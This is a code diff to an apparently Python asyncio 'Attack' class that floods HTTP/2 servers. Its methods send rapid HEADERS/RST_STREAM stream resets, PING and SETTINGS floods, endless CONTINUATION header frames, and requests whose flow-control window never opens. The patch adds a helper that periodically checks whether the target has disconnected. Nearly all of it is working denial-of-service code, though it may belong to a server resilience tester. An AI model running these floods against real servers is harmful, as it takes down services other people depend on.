@@ -152,6 +152,7 @@ class Attack:
             for stream in range(1, 1001, 2):
                 writer.write(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                 await _flush(writer)
+                await _breathe(reader, stream - 1)
             await _pause(reader, 0.5)
 
     async def pings_and_settings(self) -> None:
@@ -160,16 +161,18 @@ class Attack:
                 writer.write(frame(PING, 0, 0, struct.pack(">Q", number)))
                 writer.write(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, self.chance.randrange(1 << 31))))
                 await _flush(writer)
+                await _breathe(reader, number)
             await _pause(reader, 0.5)
 
     async def endless_headers(self) -> None:
         """Headers of some MB, in continuations."""
-        async with self._http2() as (_, writer):
+        async with self._http2() as (reader, writer):
             writer.write(frame(HEADERS, 0, 1, call(self.method)))
             piece = _literal(b"x-more", b"y" * 8000)
-            for _ in range(300):
+            for number in range(300):
                 writer.write(frame(CONTINUATION, 0, 1, piece))
                 await _flush(writer)
+                await _breathe(reader, number)
 
     async def never_reads(self) -> None:
         """Calls with large answers, and a window that never opens."""
@@ -197,6 +200,12 @@ async def _flush(writer: asyncio.StreamWriter) -> None:
     if writer.is_closing():
         raise ConnectionResetError
     await writer.drain()
+
+
+async def _breathe(reader: asyncio.StreamReader, number: int) -> None:
+    """Once in a while, hear whether the server has hung up."""
+    if number % 10 == 0:
+        await _pause(reader, 0.001)
 
 
 async def _pause(reader: asyncio.StreamReader, seconds: float) -> None:
